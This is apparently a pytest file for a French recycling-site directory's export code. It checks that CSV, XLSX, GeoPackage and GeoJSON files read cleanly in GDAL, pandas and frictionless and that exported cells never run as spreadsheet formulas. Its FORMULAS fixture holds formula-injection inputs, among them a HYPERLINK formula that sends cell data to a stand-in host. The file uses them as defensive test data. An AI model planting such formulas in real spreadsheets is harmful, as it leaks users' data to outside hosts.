"""Every export read as it comes by the tools people use: GDAL's ogrinfo (Debian's gdal-bin), pandas,
the csv module, openpyxl and ``frictionless validate`` against the published schema; and no cell a
spreadsheet would run as a formula."""
import csv
import io
import json
import shutil
import subprocess
from datetime import date

import openpyxl
import pandas
import pyogrio
import pytest
from sqlmodel import select

from carto.core import licences
from carto.directory import public_fields, sites
from carto.directory.site_schema import SiteData
from carto.publish import exports, table_schema
from carto.query import sourcing
from carto.storage import source_licences
from carto.storage.models import Site
from tests.helpers import make_client

ogrinfo = pytest.mark.skipif(not shutil.which("ogrinfo"), reason="ogrinfo absent : installez gdal-bin (Debian)")
frictionless = pytest.importorskip("frictionless", reason="frictionless absent : pip install frictionless")

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")', "\t=1+1", "@SUM(A1:A9)", "-2+3", " =1+1"]
PHONE = "+33 2 99 12 34 56"


@pytest.fixture
def hostile(service):
    """Sites whose names are spreadsheet formulas, one with a phone starting with « + »."""
    with service.session() as session:
        for n, name in enumerate(FORMULAS):
            sites.create(session, SiteData(name=name, activities=["reemploi"], lon=-1.68 + n / 1000, lat=48.11,
                                           phone=PHONE, description=name, opening_hours="Mo-Fr 09:00-12:00",
                                           siret="73282932000074", verified_at=date(2026, 3, 2)),
                         service.locator, actor="test", source="lvao", credit="ADEME")
        source_licences.record(session, "lvao", licences.ETALAB)
        session.commit()
    return service


def export(service, fmt, tmp_path, sep=","):
    """The file of ``fmt`` as ``carto export`` writes it, with its Data Package for CSV."""
    target = tmp_path / f"sites.{fmt}"
    with service.session() as session:
        results = sourcing.run(session, sourcing.parse(service, session), sources=True)
        t = exports.table(session, service.taxonomy, results, service.settings.public_base_url)
        exports.write(t, fmt, target, sep)
        if fmt == "csv":
            table_schema.write_datapackage(t, service.taxonomy, service.settings.public_base_url, target, sep)
    return target


def gdal(*args) -> subprocess.CompletedProcess:
    return subprocess.run(args, capture_output=True, text=True, timeout=60, check=True)


@ogrinfo
def test_gdal_finds_the_csv_header_and_points_without_warning(hostile, tmp_path):
    path = export(hostile, "csv", tmp_path)
    run = gdal("ogrinfo", "-ro", "-al", "-so", "-oo", "X_POSSIBLE_NAMES=longitude", "-oo", "Y_POSSIBLE_NAMES=latitude",
               "-oo", "AUTODETECT_TYPE=YES", "-oo", "QUOTED_FIELDS_AS_STRING=YES", str(path))
    assert "Geometry: Point" in run.stdout and f"Feature Count: {len(FORMULAS)}" in run.stdout
    assert "\nnom: String" in run.stdout  # the header, not a credit line
    assert "siret: String" in run.stdout and "code_commune: String" in run.stdout  # codes, not numbers
    assert "Warning" not in run.stderr + run.stdout


@ogrinfo
@pytest.mark.parametrize("fmt", ["gpkg", "geojson"])
def test_gdal_reads_the_geopackage_and_geojson_as_points_without_warning(hostile, tmp_path, fmt):
    path = export(hostile, fmt, tmp_path)
    run = gdal("ogrinfo", "-ro", "-so", "-al", str(path))
    assert "Geometry: Point" in run.stdout and f"Feature Count: {len(FORMULAS)}" in run.stdout
    assert "Warning" not in run.stderr + run.stdout, run.stderr
    if fmt == "gpkg":
        assert "date_verification: Date (0.0)" in run.stdout and "date_maj: DateTime" in run.stdout
        converted = tmp_path / "copie.gpkg"  # and ogr2ogr copies it without a complaint
        copy = gdal("ogr2ogr", "-f", "GPKG", str(converted), str(path), "sites")
        assert "Warning" not in copy.stderr


@pytest.mark.parametrize("sep", [",", ";"])
def test_frictionless_validates_the_csv_against_its_datapackage_and_schema(hostile, tmp_path, sep):
    path = export(hostile, "csv", tmp_path, sep)
    package = tmp_path / "sites.datapackage.json"
    report = frictionless.validate(str(package))
    assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])
    described = json.loads(package.read_text(encoding="utf-8"))
    assert described["resources"][0]["path"] == path.name
    assert described["resources"][0]["schema"]["fields"] == table_schema.schema(hostile.taxonomy, decimal=(
        "," if sep == ";" else "."))["fields"]


def test_frictionless_validates_the_xlsx_and_geojson_rows_against_the_schema(hostile, tmp_path):
    schema = frictionless.Schema.from_descriptor(table_schema.schema(hostile.taxonomy))
    book = export(hostile, "xlsx", tmp_path)
    report = frictionless.Resource(book.name, basepath=str(tmp_path), schema=schema,
                                   control=frictionless.formats.ExcelControl(sheet="Sites")).validate(
        checklist=frictionless.Checklist(skip_errors=["incorrect-label"]))  # headers: the titles
    assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])
    features = json.loads(export(hostile, "geojson", tmp_path).read_text(encoding="utf-8"))["features"]
    lists = {c.name for c in public_fields.IN_EXPORT if c.kind == "list"}
    rows = [{k: exports.LIST_SEPARATOR.join(v) if k in lists else v for k, v in f["properties"].items()}
            for f in features]
    report = frictionless.Resource(rows, schema=schema).validate()
    assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])


def _as_schema_reads_it(kind: str, value):
    """A cell GDAL read from the GeoPackage, as the schema writes it (dates in ISO 8601, UTC with Z)."""
    if value is None or pandas.isna(value):
        return None
    if kind == "date":
        return value.date().isoformat()
    if kind == "datetime":
        return value.isoformat() + "Z"
    return value.item() if hasattr(value, "item") else value  # NumPy scalars as Python values


def test_frictionless_validates_the_geopackage_table_read_with_gdal_against_the_schema(hostile, tmp_path):
    """frictionless reads no GeoPackage: the « sites » table as GDAL reads it is held to the same schema."""
    schema = frictionless.Schema.from_descriptor(table_schema.schema(hostile.taxonomy))
    frame = pyogrio.read_dataframe(export(hostile, "gpkg", tmp_path), layer="sites", read_geometry=False)
    assert list(frame.columns) == [f.name for f in public_fields.IN_EXPORT]
    kinds = {f.name: f.kind for f in public_fields.IN_EXPORT}
    rows = [{k: _as_schema_reads_it(kinds[k], v) for k, v in row.items()} for row in frame.to_dict("records")]
    assert rows[0]["date_verification"] == "2026-03-02" and rows[0]["siret"] == "73282932000074"
    report = frictionless.Resource(rows, schema=schema).validate()
    assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])


def test_the_geopackage_is_written_by_batches_and_typed_even_when_empty(hostile, tmp_path):
    base = hostile.settings.public_base_url
    with hostile.session() as session:
        for name, query in (("lots", {}), ("vide", {"q": "introuvable"})):
            results = sourcing.run(session, sourcing.parse(hostile, session, **query), sources=True)
            exports.write_gpkg(exports.table(session, hostile.taxonomy, results, base), tmp_path / f"{name}.gpkg",
                               batch=2)
    whole = pyogrio.read_dataframe(export(hostile, "gpkg", tmp_path), layer="sites")
    by_twos = pyogrio.read_dataframe(tmp_path / "lots.gpkg", layer="sites")
    assert len(by_twos) == len(FORMULAS) and by_twos.equals(whole)
    empty = pyogrio.read_info(tmp_path / "vide.gpkg", layer="sites")
    types = dict(zip(empty["fields"], empty["ogr_types"]))
    assert empty["features"] == 0 and empty["geometry_type"] == "Point"
    assert (types["date_verification"], types["date_maj"], types["ess"], types["id"]) == (
        "OFTDate", "OFTDateTime", "OFTInteger", "OFTInteger64")


def test_pandas_reads_the_semicolon_csv_as_french_spreadsheets_write_it(hostile, tmp_path):
    path = export(hostile, "csv", tmp_path, ";")
    frame = pandas.read_csv(path, sep=";", decimal=",", encoding="utf-8-sig", dtype={"siret": str})
    assert list(frame.columns) == [c.name for c in public_fields.IN_EXPORT]
    assert frame["longitude"].dtype == float and frame["siret"].iloc[0] == "73282932000074"


def test_no_csv_cell_starts_a_formula_and_a_phone_stays_readable(hostile, tmp_path):
    rows = list(csv.DictReader(io.StringIO(export(hostile, "csv", tmp_path).read_text(encoding="utf-8-sig"))))
    text = [c.name for c in public_fields.IN_EXPORT if c.kind in ("str", "code", "list")]
    with hostile.session() as session:  # as stored: names come trimmed
        stored = {s.id: s for s in session.exec(select(Site))}
    assert {r["nom"] for r in rows} == {"'" + stored[int(r["id"])].name for r in rows}
    assert {r["description"] for r in rows} == {"'" + stored[int(r["id"])].description for r in rows}
    assert {r["telephone"] for r in rows} == {"'" + PHONE}
    assert not [r[k] for r in rows for k in text if r[k].lstrip(" ").startswith(exports.FORMULA_STARTS)]


def test_no_xlsx_cell_is_a_formula_and_text_stays_as_typed(hostile, tmp_path):
    book = openpyxl.load_workbook(export(hostile, "xlsx", tmp_path))
    cells = [c for row in book["Sites"].iter_rows(min_row=2) for c in row]
    assert not [c.value for c in cells if c.data_type == "f"]
    with hostile.session() as session:
        stored = set(session.exec(select(Site.name)))
    assert {c.value for c in cells if c.column == 2} == stored  # written as strings: nothing added, nothing run
    assert {c.value for c in cells if c.column == [x.name for x in public_fields.IN_EXPORT].index("telephone") + 1} == {PHONE}


def test_the_http_csv_is_the_same_file(hostile, tmp_path):
    with make_client(hostile) as client:
        served = client.get("/api/exports/sites.csv", params={"sep": ";"}).content
    assert served == export(hostile, "csv", tmp_path, ";").read_bytes()
